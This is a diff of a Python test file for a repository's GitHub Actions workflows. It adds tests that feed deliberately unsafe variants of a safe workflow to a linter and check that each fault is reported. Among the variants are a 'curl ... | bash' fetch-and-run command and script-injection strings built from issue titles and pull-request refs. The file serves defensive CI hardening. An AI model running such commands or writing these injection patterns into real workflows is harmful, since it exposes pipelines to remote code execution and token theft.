@@ -4,11 +4,11 @@ from __future__ import annotations
 
 import json
 import os
-import re
 import shutil
 import subprocess
 import sys
-from collections.abc import Callable, Iterator
+import tomllib
+from collections.abc import Callable
 from pathlib import Path
 from typing import Any
 
@@ -18,6 +18,7 @@ import yaml
 from issue_bodies import body
 from local_server import Reply, Server
 from small_checkout import REPOSITORY, Checkout
+from workflow_rules import faults
 
 WORKFLOWS = sorted((REPOSITORY / ".github/workflows").glob("*.yml"))
 ACTIONS = [*WORKFLOWS, REPOSITORY / ".github/actions/setup/action.yml"]
@@ -29,31 +30,80 @@ def load(path: Path) -> dict[str, Any]:
     return {("on" if key is True else key): value for key, value in given.items()}
 
 
-def steps(path: Path) -> Iterator[dict[str, Any]]:
-    given = load(path)
-    for job in given.get("jobs", {"": given.get("runs", {})}).values():
-        yield from job["steps"]
-
-
 @pytest.mark.parametrize("path", ACTIONS, ids=lambda path: path.stem)
 def test_they_are_safe(path: Path) -> None:
-    given = load(path)
-    if "jobs" in given:
-        assert given["permissions"] == {"contents": "read"}, "more is asked for by the job that needs it"
-        assert "pull_request_target" not in given["on"]
-        for job in given["jobs"].values():
-            may_push = job.get("permissions", given["permissions"]).get("contents") == "write"
-            for step in job["steps"]:
-                if step.get("uses", "").startswith("actions/checkout@"):
-                    kept = step.get("with", {}).get("persist-credentials", True)
-                    assert kept == may_push, "only who pushes keeps the token"
-        assert all("timeout-minutes" in job or name == "deploy" for name, job in given["jobs"].items())
-    for step in steps(path):
-        if "uses" in step:
-            # A tag can be moved to other code, a commit cannot.
-            assert re.fullmatch(r"actions/[a-z-]+@[0-9a-f]{40}|\./\.github/actions/setup", step["uses"]), step["uses"]
-        # What others wrote reaches a script as a variable or a file, never as a part of it.
-        assert "${{" not in step.get("run", ""), step
+    assert faults(path.read_text(encoding="utf-8")) == []
+
+
+SAFE = """\
+on:
+  push:
+permissions: {contents: read}
+jobs:
+  one:
+    runs-on: ubuntu-latest
+    timeout-minutes: 5
+    permissions: {contents: write}
+    steps:
+      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683
+        with: {persist-credentials: false}
+      - run: git push
+"""
+
+
+@pytest.mark.parametrize(
+    ("was", "becomes", "fault"),
+    [
+        ("push:", "pull_request_target:", "strangers"),
+        ("push:", "workflow_run:", "strangers"),
+        ("push:", "pull_request:", "may write contents while"),
+        ("permissions: {contents: read}\n", "", "more than reading"),
+        ("permissions: {contents: read}\n", "permissions: write-all\n", "more than reading"),
+        ("    permissions: {contents: write}", "    permissions: write-all", "write-all"),
+        ("run: git push", "run: git status", "may write contents, and does not"),
+        ("contents: write", "packages: write", "may write packages"),
+        ("contents: write", "id-token: write", "without an environment"),
+        ("11bd71901bbe5b1630ceea73d27597364c9af683", "v4", "not pinned"),
+        ("actions/checkout@", "somebody/checkout@", "nobody looked"),
+        ("persist-credentials: false", "fetch-depth: 0", "the token is kept"),
+        ("false}", "false, ref: '${{ github.event.pull_request.head.sha }}'}", "an event names"),
+        ("git push", 'git push "${{ github.event.issue.title }}"', "part of a script"),
+        ("git push", "git push; pip install requests", "no hash names"),
+        ("git push", "git push; npm install", "the lock file does not name"),
+        ("git push", "git push; curl -s https://example.org/x | bash", "runs what it fetches"),
+        ("run: git push", "run: git push\n        env: {KEY: '${{ secrets.KEY }}'}", "a secret"),
+        ("    timeout-minutes: 5\n", "", "no timeout"),
+    ],
+)
+def test_what_is_not_safe_is_seen(was: str, becomes: str, fault: str) -> None:
+    assert faults(SAFE) == []
+    assert was in SAFE
+    assert any(fault in one for one in faults(SAFE.replace(was, becomes, 1)))
+
+
+def test_a_release_is_published_from_a_tag_only_after_it_was_tried() -> None:
+    release = load(REPOSITORY / ".github/workflows/release.yml")
+    assert release["on"] == {"push": {"tags": ["v[0-9]*"]}}
+    publishing = release["jobs"]["publish"]
+    assert publishing["needs"] == ["build", "try"]
+    assert publishing["environment"]["name"] == "pypi"
+    assert publishing["permissions"] == {"id-token": "write"}
+    assert publishing["steps"][-1]["with"]["attestations"] is True
+    assert all("permissions" not in job for name, job in release["jobs"].items() if name != "publish")
+
+
+@pytest.mark.parametrize(("tag", "status"), [("v{}", 0), ("{}", 1), ("v{}.1", 1)])
+def test_a_release_is_of_the_version_that_its_tag_names(tag: str, status: int) -> None:
+    version = tomllib.loads((REPOSITORY / "pyproject.toml").read_text(encoding="utf-8"))["project"]["version"]
+    (script,) = (
+        step["run"]
+        for step in load(REPOSITORY / ".github/workflows/release.yml")["jobs"]["build"]["steps"]
+        if step.get("name") == "The tag is the version"
+    )
+    python = f'python() {{ "{sys.executable}" "$@"; }}\n'
+    environment = {**os.environ, "GITHUB_REF_NAME": tag.format(version)}
+    ran = subprocess.run(["bash", "-ec", python + script], cwd=REPOSITORY, env=environment, check=False)
+    assert ran.returncode == status
 
 
 # Step by step, here -----------------------------------------------------------------------------------
@@ -217,6 +267,21 @@ def test_a_week(server: Server, checkout: Checkout, host: Callable[[], Host]) ->
     (ran,) = made.job("weekly", "discover")
     assert ran.returncode == 0, ran.stderr
     assert "issue create --title Candidates" in made.said.read_text()
+
+
+def test_known_vulnerabilities_become_an_issue_and_none_close_it(host: Callable[[], Host]) -> None:
+    made = host()
+    made.tool("make", "echo 'urllib3 2.8.0 PYSEC-2031-1'\nexit 2")
+    (ran,) = made.job("weekly", "audit")
+    assert ran.returncode == 0, ran.stderr
+    assert "issue create --title Audit of dependencies" in made.said.read_text()
+    assert "PYSEC-2031-1" in made.out("cat build/audit.md")
+    made.tool("gh", f'echo "$@" >> {made.said}\n[ "$2" = list ] && echo 7\nexit 0')
+    made.job("weekly", "audit")
+    assert "issue edit 7 --body-file build/audit.md" in made.said.read_text()
+    made.tool("make", "exit 0")
+    made.job("weekly", "audit")
+    assert "issue close 7" in made.said.read_text()
 
 
 def test_an_issue(server: Server, host: Callable[[], Host], tmp_path: Path) -> None:
